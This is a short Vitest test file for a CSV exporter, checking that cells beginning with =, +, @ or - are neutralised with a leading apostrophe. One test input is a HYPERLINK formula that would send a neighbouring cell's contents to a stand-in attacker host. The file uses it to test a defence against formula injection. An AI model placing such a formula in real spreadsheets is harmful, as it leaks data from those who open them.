import { describe, expect, it } from "vitest";
import { toCsv } from "./csv";

describe("CSV out", () => {
  it("neutralises formulas, including one followed by a line break", () => {
    const csv = toCsv(["a"], [["=HYPERLINK(\"https://evil.example/?\"&B2)\nx"], ["+1"], ["@SUM(A1)"], ["-2"], ["plain"]]);
    const cells = csv.split("\r\n").slice(1);
    expect(cells[0]).toMatch(/^"'=HYPERLINK/);
    for (const cell of cells.slice(1, 4)) expect(cell).toMatch(/^"?'[+@-]/);
    expect(cells[4]).toBe("plain");
  });
});
